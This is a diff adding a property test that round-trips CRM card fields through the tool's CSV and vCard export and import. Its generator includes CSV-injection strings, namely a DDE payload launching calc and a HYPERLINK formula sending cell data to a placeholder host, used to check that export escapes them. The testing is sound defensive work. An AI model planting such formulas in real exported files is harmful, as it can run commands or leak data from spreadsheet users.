@@ -1,6 +1,7 @@
 // Property tests of stored text through crm export and crm import, end to end: random names and
 // notes (the same mix as text.test.ts) come out of one binder and into a fresh one unchanged, and
 // so does a 1 MB note of random multi-script text. Each run spawns the built CLI several times.
+import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { tempBinder, type Binder } from '../e2e/cli.js';
@@ -56,6 +57,37 @@ describe('names and notes through export and import', () => {
       { numRuns: 20 },
     );
   }, 120_000);
+
+  it('crm export --format csv and --format vcard, imported into a fresh binder: every card field as typed, formula-like text included (30 runs)', () => {
+    // What a spreadsheet would run (=, +, -, @ first) and what crm's export puts before it (').
+    const formulaLike = fc.tuple(fc.constantFrom('=', '+', '-', '@', "'", "''=", '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0"), note).map(([start, rest]) => start + rest);
+    // Text these two formats can carry: no control characters but tab and newline (a vCard value
+    // cannot hold them, RFC 6350, and crm leaves them out: test/unit/vcard.test.ts; the JSON export
+    // above carries them), and no carriage return, which a spreadsheet's line ends turn into LF.
+    // eslint-disable-next-line no-control-regex -- control characters are what this removes
+    const carried = (t: string) => t.replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '');
+    // A card field as crm keeps it: one line, trimmed.
+    const field = fc.oneof(note, formulaLike).map((t) => carried(t).replace(/[\n\u2028\u0085]+/g, ' ').trim()).filter((t) => t !== '' && t.length <= 200);
+    const card = fc.record({ name: field, company: field, position: field, notes: fc.oneof(note, formulaLike).map((t) => carried(t).trim()).filter((t) => t !== '') });
+    fc.assert(
+      fc.property(handle, card, today, (h, typed, day) =>
+        withBinders(day, 3, (from, viaCsv, viaVcard) => {
+          ok(from, ['file', h, 'tomorrow', '--name', typed.name, '--company', typed.company, '--position', typed.position, '--notes', typed.notes]);
+          const shown = from.json<ShowJson & typeof typed>(['show', h]);
+          expect({ name: shown.name, company: shown.company, position: shown.position, notes: shown.notes }).toEqual(typed);
+          for (const [format, into] of [['csv', viaCsv], ['vcard', viaVcard]] as const) {
+            const file = join(into.dir, `clients.${format === 'csv' ? 'csv' : 'vcf'}`);
+            ok(from, ['export', '--format', format, '-o', file]);
+            ok(into, ['import', file]);
+            const back = into.json<ShowJson & typeof typed>(['show', h]);
+            expect({ name: back.name, company: back.company, position: back.position, notes: back.notes }, `through ${format}`).toEqual(typed);
+            expect(back.filedOn, `the filing through ${format}`).toBe(shown.filedOn);
+          }
+        }),
+      ),
+      { numRuns: 30 },
+    );
+  }, 180_000);
 
   // A note that long cannot be a command-line argument (Linux takes at most 128 KiB in one), so it
   // goes in as `crm log --note -` does, through standard input, where NUL can come along too.
